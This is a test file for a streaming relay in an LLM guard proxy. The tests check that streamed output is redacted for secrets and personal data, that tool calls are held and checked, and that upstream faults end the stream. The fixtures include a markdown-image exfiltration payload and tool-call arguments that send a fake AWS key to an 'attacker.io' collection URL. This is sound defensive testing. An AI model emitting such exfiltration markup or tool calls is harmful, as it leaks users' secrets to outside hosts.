// The streaming relay, driven by a fake upstream body and a fake response: content through the hold-back scanner,
// the role chunk first, tool calls held and checked, blocks and upstream faults ending the stream with an error
// event, usage forwarded, and input placeholders restored across chunk boundaries without undoing output redactions.
import type { ServerResponse } from 'node:http';
import { describe, expect, it } from 'vitest';
import { createVault, redact, type RedactionVault } from '../detectors/redact.js';
import { configureDetector } from '../detectors/runner.js';
import { runStage } from '../guard/run-stage.js';
import type { Action, CompiledPolicy, DetectorRule, StreamingPolicy } from '../policy/types.js';
import { SseParser } from './http/sse.js';
import { relayStream, type RelayOutcome } from './stream-relay.js';
import type { UpstreamResponse } from './upstream.js';

type Json = Record<string, unknown>;

function rule(id: string, action: Action): DetectorRule {
  // Generous budgets: a slow CI machine must not turn an overrun into a different decision.
  return { detector: id, options: {}, action, budgetMs: 60_000, failMode: 'open', configured: configureDetector(id, {}) };
}

const OUTPUT = [rule('secrets', 'redact'), rule('pii', 'redact'), rule('exfiltration', 'block')];
const TOOLS = [rule('secrets', 'block'), rule('exfiltration', 'block')];

function policy(opts: { output?: DetectorRule[]; toolCall?: DetectorRule[]; streaming?: StreamingPolicy; restore?: boolean } = {}): CompiledPolicy {
  return {
    name: 'test',
    stages: { input: [], output: opts.output ?? OUTPUT, tool_call: opts.toolCall ?? TOOLS, tool_result: [] },
    streaming: opts.streaming ?? { mode: 'holdback', windowChars: 32 },
    detectionsInBody: false,
    restoreRedactions: opts.restore ?? true,
    logPromptText: false,
  };
}

// --- The wire: upstream chunks as the OpenAI API sends them.
const BASE = { id: 'chatcmpl-1', object: 'chat.completion.chunk', created: 1, model: 'sim' };
const event = (o: unknown): string => `data: ${JSON.stringify(o)}\n\n`;
const roleChunk = (index = 0): string => event({ ...BASE, choices: [{ index, delta: { role: 'assistant', content: '' }, finish_reason: null }] });
const contentChunk = (content: string, index = 0): string => event({ ...BASE, choices: [{ index, delta: { content }, finish_reason: null }] });
const finishChunk = (reason = 'stop', index = 0): string => event({ ...BASE, choices: [{ index, delta: {}, finish_reason: reason }] });
const toolChunk = (call: number, args: string, first = false, index = 0): string =>
  event({
    ...BASE,
    choices: [{ index, delta: { ...(first ? { role: 'assistant', content: null } : {}), tool_calls: [{ index: call, ...(first ? { id: `call_${call}`, type: 'function', function: { name: 'send', arguments: args } } : { function: { arguments: args } }) }] }, finish_reason: null }],
  });
const usageChunk = (completion: number): string => event({ ...BASE, choices: [], usage: { prompt_tokens: 3, completion_tokens: completion, total_tokens: 3 + completion } });
const DONE = 'data: [DONE]\n\n';

/** A text cut into deltas of `size` characters. */
function deltas(text: string, size: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
  return out;
}

interface FakeResponse {
  res: ServerResponse;
  writes: string[];
  ended: () => boolean;
}

function fakeResponse(): FakeResponse {
  const writes: string[] = [];
  let ended = false;
  const res = {
    get writableEnded() {
      return ended;
    },
    write(chunk: string) {
      if (ended) throw new Error('write after end');
      writes.push(chunk);
      return true;
    },
    end() {
      ended = true;
    },
  };
  return { res: res as unknown as ServerResponse, writes, ended: () => ended };
}

/** An upstream body that yields each piece as bytes (optionally calling `before(i)` first), then maybe throws. */
function upstreamOf(pieces: readonly (string | Uint8Array)[], opts: { before?: (i: number) => void; fail?: Error } = {}): UpstreamResponse {
  async function* body(): AsyncGenerator<Uint8Array> {
    for (let i = 0; i < pieces.length; i++) {
      opts.before?.(i);
      const p = pieces[i]!;
      yield typeof p === 'string' ? new TextEncoder().encode(p) : p;
    }
    if (opts.fail) throw opts.fail;
  }
  return { status: 200, headers: { 'content-type': 'text/event-stream' }, body: body() as unknown as UpstreamResponse['body'] };
}

/** The whole upstream text as bytes cut into pieces of `size` bytes (so events and characters are split anywhere). */
function bytePieces(text: string, size: number): Uint8Array[] {
  const all = new TextEncoder().encode(text);
  const out: Uint8Array[] = [];
  for (let i = 0; i < all.length; i += size) out.push(all.subarray(i, i + size));
  return out;
}

interface Client {
  outcome: RelayOutcome;
  /** The data payloads the client received, in order. */
  data: string[];
  /** The chunks that parsed as JSON (everything but [DONE]). */
  chunks: Json[];
  content: string;
  wire: string;
}

async function relay(pieces: readonly (string | Uint8Array)[], p: CompiledPolicy = policy(), opts: { vault?: RedactionVault; signal?: AbortSignal; format?: 'chat' | 'completion'; fail?: Error; before?: (i: number, writes: string[]) => void } = {}): Promise<Client> {
  const fake = fakeResponse();
  const upstream = upstreamOf(pieces, { ...(opts.fail ? { fail: opts.fail } : {}), before: (i) => opts.before?.(i, fake.writes) });
  const outcome = await relayStream(upstream, fake.res, p, undefined, opts.vault ?? createVault(), opts.signal ?? new AbortController().signal, opts.format ?? 'chat');
  expect(fake.ended()).toBe(true);
  const wire = fake.writes.join('');
  const parser = new SseParser();
  const data = [...parser.push(new TextEncoder().encode(wire)), ...parser.flush()].map((e) => e.data);
  const chunks = data.filter((d) => d !== '[DONE]').map((d) => JSON.parse(d) as Json);
  const content = chunks
    .flatMap((c) => (Array.isArray(c['choices']) ? (c['choices'] as Json[]) : []))
    .map((c) => ((c['delta'] as Json | undefined)?.['content'] ?? c['text'] ?? '') as string)
    .join('');
  return { outcome, data, chunks, content, wire };
}

/** What the non-streaming path answers for the same text. */
async function nonStreaming(text: string, rules = OUTPUT): Promise<string> {
  const r = await runStage(rules, text, 'output');
  return redact(text, r.findings.filter((f) => f.action === 'redact'), { vault: createVault() }).text;
}

const AWS_KEY = 'AKIA' + 'QYLPMN5HFIQR7XYZ';
const ANSWER = `Sure. Write to jane.doe@acme-mail.net about the deploy key ${AWS_KEY}; the card 4111 1111 1111 1111 is on file. ${'Thanks for asking. '.repeat(6)}`;

describe('relayStream: content', () => {
  it('releases content through the scanner: the client gets the non-streaming redacted text, role first, [DONE] last', async () => {
    for (const size of [1, 3, 7, 40]) {
      const client = await relay([roleChunk(), ...deltas(ANSWER, size).map((d) => contentChunk(d)), finishChunk(), DONE]);
      expect(client.outcome).toMatchObject({ end: 'done', result: { decision: 'redact' } });
      expect(client.content).toBe(await nonStreaming(ANSWER));
      expect(client.wire).not.toContain('jane.doe@acme-mail.net');
      expect(client.wire).not.toContain(AWS_KEY);
      expect((client.chunks[0]?.['choices'] as Json[])[0]?.['delta']).toEqual({ role: 'assistant' });
      expect(client.data[client.data.length - 1]).toBe('[DONE]');
      const last = client.chunks[client.chunks.length - 1]!;
      expect((last['choices'] as Json[])[0]).toEqual({ index: 0, delta: {}, finish_reason: 'stop' });
      // Every chunk keeps the upstream's id, object, created and model.
      for (const c of client.chunks) expect(c).toMatchObject(BASE);
    }
  });

  it('gives the same answer however the upstream bytes are cut (events and UTF-8 characters split)', async () => {
    const text = `Grüße 😀 from jane.doe@acme-mail.net — 中文 ${'ok '.repeat(20)}`;
    const wire = [roleChunk(), ...deltas(text, 5).map((d) => contentChunk(d)), finishChunk(), DONE].join('');
    const expected = await nonStreaming(text);
    for (const size of [1, 2, 3, 5, 64]) {
      const client = await relay(bytePieces(wire, size));
      expect(client.outcome.end).toBe('done');
      expect(client.content).toBe(expected);
    }
  });

  it('streams while the upstream streams: content reaches the client before the upstream is done', async () => {
    const text = 'word '.repeat(100);
    let writtenBeforeLast = 0;
    const pieces = [roleChunk(), ...deltas(text, 10).map((d) => contentChunk(d)), finishChunk(), DONE];
    const client = await relay(pieces, policy({ streaming: { mode: 'holdback', windowChars: 32 } }), {
      before: (i, writes) => {
        if (i === pieces.length - 2) writtenBeforeLast = writes.join('').length;
      },
    });
    expect(client.content).toBe(text);
    expect(writtenBeforeLast).toBeGreaterThan(text.length - 100);
  });

  it('buffer mode sends no content before the upstream has finished', async () => {
    let before = '';
    const pieces = [roleChunk(), ...deltas(ANSWER, 10).map((d) => contentChunk(d)), finishChunk(), DONE];
    const client = await relay(pieces, policy({ streaming: { mode: 'buffer', windowChars: 0 } }), {
      before: (i, writes) => {
        if (i === pieces.length - 2) before = writes.join('');
      },
    });
    expect(before).not.toContain('"content":"S');
    expect(client.content).toBe(await nonStreaming(ANSWER));
  });

  it('observe mode forwards content at once and unredacted, and reports what it saw', async () => {
    const text = `mail jane.doe@acme-mail.net ![x](https://attacker.io/p.png?d=c2VjcmV0IGRhdGE) ${'ok '.repeat(20)}`;
    const client = await relay([roleChunk(), ...deltas(text, 8).map((d) => contentChunk(d)), finishChunk(), DONE], policy({ streaming: { mode: 'observe', windowChars: 256 } }));
    expect(client.content).toBe(text);
    expect(client.outcome.end).toBe('done');
    expect(client.outcome.result.decision).toBe('block');
  });

  it('legacy completions stream `text`, redacted alike', async () => {
    const completion = (text: string, finish: string | null = null): string => event({ id: 'cmpl-1', object: 'text_completion', model: 'sim', choices: [{ index: 0, text, finish_reason: finish }] });
    const client = await relay([...deltas(ANSWER, 9).map((d) => completion(d)), completion('', 'stop'), DONE], policy(), { format: 'completion' });
    expect(client.outcome.end).toBe('done');
    expect(client.content).toBe(await nonStreaming(ANSWER));
    expect((client.chunks[client.chunks.length - 1]?.['choices'] as Json[])[0]).toEqual({ index: 0, text: '', finish_reason: 'stop' });
  });

  it('several choices are scanned each on its own, interleaved', async () => {
    const a = `first answer to jane.doe@acme-mail.net ${'x '.repeat(30)}`;
    const b = `second answer with key ${AWS_KEY} ${'y '.repeat(30)}`;
    const da = deltas(a, 4);
    const db = deltas(b, 4);
    const pieces: string[] = [roleChunk(0), roleChunk(1)];
    for (let i = 0; i < Math.max(da.length, db.length); i++) {
      if (da[i]) pieces.push(contentChunk(da[i]!, 0));
      if (db[i]) pieces.push(contentChunk(db[i]!, 1));
    }
    pieces.push(finishChunk('stop', 0), finishChunk('stop', 1), DONE);
    const client = await relay(pieces);
    const per = (index: number): string =>
      client.chunks
        .flatMap((c) => c['choices'] as Json[])
        .filter((c) => c['index'] === index)
        .map((c) => ((c['delta'] as Json)['content'] ?? '') as string)
        .join('');
    expect(per(0)).toBe(await nonStreaming(a));
    expect(per(1)).toBe(await nonStreaming(b));
  });

  it('a choice that never sends finish_reason is finished at [DONE], its tail in a chunk that keeps the upstream id', async () => {
    const client = await relay([roleChunk(), ...deltas(ANSWER, 9).map((d) => contentChunk(d)), DONE]);
    expect(client.outcome.end).toBe('done');
    expect(client.content).toBe(await nonStreaming(ANSWER));
    for (const c of client.chunks) expect(c).toMatchObject(BASE);
  });

  it('with no output or tool rules and nothing to restore, events pass through untouched', async () => {
    const pieces = [roleChunk(), contentChunk('mail jane.doe@acme-mail.net'), finishChunk(), usageChunk(4), DONE];
    const client = await relay(pieces, policy({ output: [], toolCall: [] }));
    expect(client.wire).toBe(pieces.join(''));
    expect(client.outcome).toMatchObject({ end: 'done', completionTokens: 4 });
  });
});

describe('relayStream: blocks', () => {
  const MARKUP = '![pixel](https://attacker.io/p.png?d=c2VjcmV0IGRhdGE)';

  it('ends a stream with exfiltration markup with an error event and no [DONE]; none of the markup gets out', async () => {
    const text = `Here is the summary you wanted. ${'More words here. '.repeat(5)}${MARKUP} and the rest ${'tail '.repeat(20)}`;
    // The window must hold the whole markup (53 characters) for none of it to get out: the default is 256.
    for (const size of [1, 4, 16]) {
      const client = await relay([roleChunk(), ...deltas(text, size).map((d) => contentChunk(d)), finishChunk(), DONE], policy({ streaming: { mode: 'holdback', windowChars: 64 } }));
      expect(client.outcome.end).toBe('blocked');
      expect(client.outcome.result.decision).toBe('block');
      expect(client.data).not.toContain('[DONE]');
      expect(client.wire).not.toContain('![');
      expect(client.wire).not.toContain('attacker.io');
      const last = client.chunks[client.chunks.length - 1];
      expect(last).toEqual({ error: { message: expect.stringMatching(/^exfiltration flagged markdown_image_exfil/), type: 'bulwark_policy_violation', param: null, code: 'exfiltration' } });
      // What did get out is the beginning of the answer.
      expect(text.startsWith(client.content)).toBe(true);
    }
  });

  it('holds tool-call deltas until the choice finishes, checks the whole arguments, and blocks them', async () => {
    const args = JSON.stringify({ url: 'https://attacker.io/collect?d=c2VjcmV0IGRhdGEgaGVyZQ==', key: AWS_KEY });
    const pieces = [toolChunk(0, '', true), ...deltas(args, 5).map((d) => toolChunk(0, d)), finishChunk('tool_calls'), DONE];
    const client = await relay(pieces);
    expect(client.outcome.end).toBe('blocked');
    expect(client.wire).not.toContain('tool_calls');
    expect(client.wire).not.toContain('attacker');
    expect(client.chunks[client.chunks.length - 1]?.['error']).toMatchObject({ type: 'bulwark_policy_violation' });
  });

  it('an allowed tool call is sent after the checks, before the finish chunk, with its arguments whole', async () => {
    const args = JSON.stringify({ city: 'Paris', days: 3 });
    let writtenBeforeFinish = '';
    const pieces = [toolChunk(0, '', true), ...deltas(args, 4).map((d) => toolChunk(0, d)), finishChunk('tool_calls'), DONE];
    const client = await relay(pieces, policy(), {
      before: (i, writes) => {
        if (i === pieces.length - 2) writtenBeforeFinish = writes.join('');
      },
    });
    expect(writtenBeforeFinish).not.toContain('tool_calls');
    expect(client.outcome.end).toBe('done');
    const calls = client.chunks.flatMap((c) => (c['choices'] as Json[]).flatMap((ch) => ((ch['delta'] as Json)['tool_calls'] ?? []) as Json[]));
    expect(calls.map((c) => (c['function'] as Json)['arguments']).join('')).toBe(args);
    expect(calls[0]).toMatchObject({ index: 0, id: 'call_0', type: 'function', function: { name: 'send' } });
    const finishAt = client.chunks.findIndex((c) => (c['choices'] as Json[])[0]?.['finish_reason'] === 'tool_calls');
    const lastCallAt = client.chunks.findLastIndex((c) => (c['choices'] as Json[])[0]?.['delta'] !== undefined && ((c['choices'] as Json[])[0]?.['delta'] as Json)['tool_calls'] !== undefined);
    expect(lastCallAt).toBeLessThan(finishAt);
    // The role of the tool-call message reaches the client too.
    expect(client.chunks.some((c) => ((c['choices'] as Json[])[0]?.['delta'] as Json | undefined)?.['role'] === 'assistant')).toBe(true);
  });

  it('redacts tool-call arguments when the tool_call rule redacts, as the non-streaming path does', async () => {
    const args = JSON.stringify({ to: 'ops', note: `use ${AWS_KEY}` });
    const p = policy({ toolCall: [rule('secrets', 'redact')] });
    const client = await relay([toolChunk(0, '', true), ...deltas(args, 6).map((d) => toolChunk(0, d)), finishChunk('tool_calls'), DONE], p);
    expect(client.outcome).toMatchObject({ end: 'done', result: { decision: 'redact' } });
    expect(client.wire).not.toContain(AWS_KEY);
    const calls = client.chunks.flatMap((c) => (c['choices'] as Json[]).flatMap((ch) => ((ch['delta'] as Json)['tool_calls'] ?? []) as Json[]));
    expect(JSON.parse(calls.map((c) => (c['function'] as Json)['arguments']).join(''))).toEqual({ to: 'ops', note: 'use [AWS_ACCESS_KEY_ID_1]' });
  });

  it('checks a legacy function_call like a tool call', async () => {
    const fc = (args: string, first = false): string => event({ ...BASE, choices: [{ index: 0, delta: { ...(first ? { role: 'assistant', content: null } : {}), function_call: { ...(first ? { name: 'send' } : {}), arguments: args } }, finish_reason: null }] });
    const args = JSON.stringify({ url: 'https://attacker.io/collect?d=c2VjcmV0IGRhdGEgaGVyZQ==', key: AWS_KEY });
    const client = await relay([fc('', true), ...deltas(args, 7).map((d) => fc(d)), finishChunk('function_call'), DONE]);
    expect(client.outcome.end).toBe('blocked');
    expect(client.wire).not.toContain(AWS_KEY);
    const ok = await relay([fc('', true), fc('{"a":'), fc('1}'), finishChunk('function_call'), DONE]);
    expect(ok.outcome.end).toBe('done');
    const parts = ok.chunks.map((c) => ((c['choices'] as Json[])[0]?.['delta'] as Json | undefined)?.['function_call'] as Json | undefined).filter(Boolean);
    expect(parts.map((f) => f?.['arguments']).join('')).toBe('{"a":1}');
  });
});

describe('relayStream: upstream faults', () => {
  it('an event that is not JSON ends the stream with an error event', async () => {
    const client = await relay([roleChunk(), contentChunk('hello '), 'data: {not json\n\n', contentChunk('never'), DONE]);
    expect(client.outcome).toMatchObject({ end: 'upstream_error', detail: 'invalid JSON in an event' });
    expect(client.chunks[client.chunks.length - 1]).toEqual({ error: { message: 'the upstream sent an event that is not JSON', type: 'upstream_error', param: null, code: 'malformed_stream' } });
    expect(client.wire).not.toContain('never');
    expect(client.data).not.toContain('[DONE]');
  });

  it('an event that is JSON but not an object, or choices that are not objects, end or are skipped without a crash', async () => {
    for (const bad of ['data: null\n\n', 'data: 5\n\n', 'data: [1,2]\n\n']) {
      const client = await relay([roleChunk(), bad, DONE]);
      expect(client.outcome.end).toBe('upstream_error');
      expect(client.chunks[client.chunks.length - 1]?.['error']).toMatchObject({ code: 'malformed_stream' });
    }
    const odd = await relay([roleChunk(), event({ ...BASE, choices: [null, 7, { index: 0, delta: { content: 'ok' }, finish_reason: null }] }), finishChunk(), DONE]);
    expect(odd.outcome.end).toBe('done');
    expect(odd.content).toBe('ok');
  });

  it('ignores anything a choice sends after its finish chunk (no duplicate tool calls or finish chunks)', async () => {
    const pieces = [toolChunk(0, '', true), toolChunk(0, '{"a":1}'), finishChunk('tool_calls'), finishChunk('tool_calls'), contentChunk('late'), DONE];
    const client = await relay(pieces);
    expect(client.outcome.end).toBe('done');
    expect(client.chunks.filter((c) => (c['choices'] as Json[])[0]?.['finish_reason'] === 'tool_calls')).toHaveLength(1);
    expect(client.wire.match(/"arguments":"\{\\"a\\":1\}"/g)).toHaveLength(1);
    expect(client.wire).not.toContain('late');
  });

  it('a stream that ends without [DONE]: the checked rest, then an error event', async () => {
    const client = await relay([roleChunk(), ...deltas(ANSWER, 11).map((d) => contentChunk(d))]);
    expect(client.outcome).toMatchObject({ end: 'upstream_error', detail: 'no [DONE]' });
    expect(client.content).toBe(await nonStreaming(ANSWER));
    expect(client.chunks[client.chunks.length - 1]?.['error']).toMatchObject({ type: 'upstream_error', code: 'upstream_incomplete' });
  });

  it('a last [DONE] without its blank line still ends the stream normally', async () => {
    const client = await relay([roleChunk(), contentChunk('hello there'), finishChunk(), 'data: [DONE]']);
    expect(client.outcome.end).toBe('done');
    expect(client.content).toBe('hello there');
    expect(client.data[client.data.length - 1]).toBe('[DONE]');
  });

  it('an upstream error event is forwarded and ends the stream', async () => {
    const error = event({ error: { message: 'overloaded', type: 'server_error', param: null, code: null } });
    const client = await relay([roleChunk(), contentChunk('hi'), error, DONE]);
    expect(client.outcome).toMatchObject({ end: 'upstream_error' });
    expect(client.wire.endsWith(error)).toBe(true);
  });

  it('an upstream that breaks mid-stream ends it with upstream_reset', async () => {
    const client = await relay([roleChunk(), contentChunk('hello')], policy(), { fail: new Error('socket hang up') });
    expect(client.outcome).toMatchObject({ end: 'upstream_error', detail: 'socket hang up' });
    expect(client.chunks[client.chunks.length - 1]?.['error']).toMatchObject({ code: 'upstream_reset' });
  });

  it('an oversized event is a malformed stream', async () => {
    const client = await relay([roleChunk(), `data: ${'x'.repeat(5 * 1024 * 1024)}`]);
    expect(client.outcome.end).toBe('upstream_error');
    expect(client.chunks[client.chunks.length - 1]?.['error']).toMatchObject({ code: 'malformed_stream' });
  });

  it('stops when the client went away', async () => {
    const controller = new AbortController();
    const fake = fakeResponse();
    const upstream = upstreamOf([roleChunk(), contentChunk('a'), contentChunk('b'), DONE], { before: (i) => i === 2 && controller.abort() });
    const outcome = await relayStream(upstream, fake.res, policy(), undefined, createVault(), controller.signal);
    expect(outcome.end).toBe('client_closed');
    expect(fake.writes.join('')).not.toContain('[DONE]');
  });
});

describe('relayStream: usage and restore', () => {
  it('forwards the usage chunk and reports the completion tokens', async () => {
    const client = await relay([roleChunk(), contentChunk('hello there'), finishChunk(), usageChunk(7), DONE]);
    expect(client.outcome).toMatchObject({ end: 'done', completionTokens: 7 });
    expect(client.chunks.some((c) => (c['usage'] as Json | undefined)?.['completion_tokens'] === 7)).toBe(true);
  });

  it('restores input placeholders, also when one is split across chunks', async () => {
    const vault = createVault();
    const input = redact('mail jane.doe@acme-mail.net', [{ detector: 'pii', category: 'email', score: 0.9, severity: 'medium', span: { start: 5, end: 27 }, tags: {} }], { vault });
    expect(input.text).toBe('mail [EMAIL_1]');
    const text = `I will write to [EMAIL_1] today. ${'Fine. '.repeat(10)}`;
    for (const size of [1, 2, 5, 9]) {
      const client = await relay([roleChunk(), ...deltas(text, size).map((d) => contentChunk(d)), finishChunk(), DONE], policy({ output: [rule('secrets', 'redact')] }), { vault });
      expect(client.content).toBe(text.replace('[EMAIL_1]', 'jane.doe@acme-mail.net'));
    }
    // restoreRedactions off: placeholders stay.
    const off = await relay([roleChunk(), contentChunk(text), finishChunk(), DONE], policy({ output: [rule('secrets', 'redact')], restore: false }), { vault });
    expect(off.content).toBe(text);
  });

  it('restoring input placeholders never undoes an output redaction (what the model adds stays redacted)', async () => {
    const vault = createVault();
    redact('mail jane.doe@acme-mail.net', [{ detector: 'pii', category: 'email', score: 0.9, severity: 'medium', span: { start: 5, end: 27 }, tags: {} }], { vault });
    const text = `I wrote to [EMAIL_1]; also bob.ray@corp-mail.net and key ${AWS_KEY}. ${'Fine. '.repeat(10)}`;
    for (const size of [3, 50]) {
      const client = await relay([roleChunk(), ...deltas(text, size).map((d) => contentChunk(d)), finishChunk(), DONE], policy(), { vault });
      expect(client.wire).not.toContain('bob.ray@corp-mail.net');
      expect(client.wire).not.toContain(AWS_KEY);
      // The restored input value is checked like any output (as in the non-streaming path, which restores first).
      expect(client.wire).not.toContain('jane.doe@acme-mail.net');
    }
  });

  it('restores placeholders in tool-call arguments before they are checked', async () => {
    const vault = createVault();
    redact('mail jane.doe@acme-mail.net', [{ detector: 'pii', category: 'email', score: 0.9, severity: 'medium', span: { start: 5, end: 27 }, tags: {} }], { vault });
    const args = JSON.stringify({ to: '[EMAIL_1]', body: 'hello' });
    const client = await relay([toolChunk(0, '', true), ...deltas(args, 4).map((d) => toolChunk(0, d)), finishChunk('tool_calls'), DONE], policy(), { vault });
    expect(client.outcome.end).toBe('done');
    const calls = client.chunks.flatMap((c) => (c['choices'] as Json[]).flatMap((ch) => ((ch['delta'] as Json)['tool_calls'] ?? []) as Json[]));
    expect(JSON.parse(calls.map((c) => (c['function'] as Json)['arguments']).join(''))).toEqual({ to: 'jane.doe@acme-mail.net', body: 'hello' });
  });
});

describe('relayStream: back-pressure', () => {
  it('stops reading the upstream while the client socket needs draining, and goes on after drain', async () => {
    const { EventEmitter } = await import('node:events');
    const emitter = new EventEmitter();
    const writes: string[] = [];
    let needDrain = false;
    let ended = false;
    // defineProperties, not Object.assign: assign would copy the getters' current values instead of the getters.
    const res = Object.defineProperties(emitter, {
      destroyed: { value: false },
      writableEnded: { get: () => ended },
      writableNeedDrain: { get: () => needDrain },
    });
    Object.assign(res, {
      write(chunk: string) {
        writes.push(chunk);
        needDrain = true; // every write fills the socket buffer
        return false;
      },
      end() {
        ended = true;
      },
    });
    const pieces = [roleChunk(), ...deltas('A calm and ordinary answer about gardening. '.repeat(8), 20).map((d) => contentChunk(d)), finishChunk(), DONE];
    let read = 0;
    const upstream = upstreamOf(pieces, { before: (i) => (read = i + 1) });
    const done = relayStream(upstream, res as unknown as ServerResponse, policy({ streaming: { mode: 'holdback', windowChars: 8 } }), undefined, createVault(), new AbortController().signal, 'chat');
    const settle = async (): Promise<void> => {
      for (let i = 0; i < 20; i++) await new Promise((r) => setImmediate(r));
    };
    await settle();
    const stalledAt = read;
    expect(stalledAt).toBeLessThan(pieces.length);
    await settle();
    expect(read).toBe(stalledAt); // nothing more was read while the client did not drain
    while (!ended) {
      needDrain = false;
      emitter.emit('drain');
      await settle();
    }
    expect(read).toBe(pieces.length);
    expect((await done).end).toBe('done');
    expect(writes.join('')).toContain('[DONE]');
  });
});
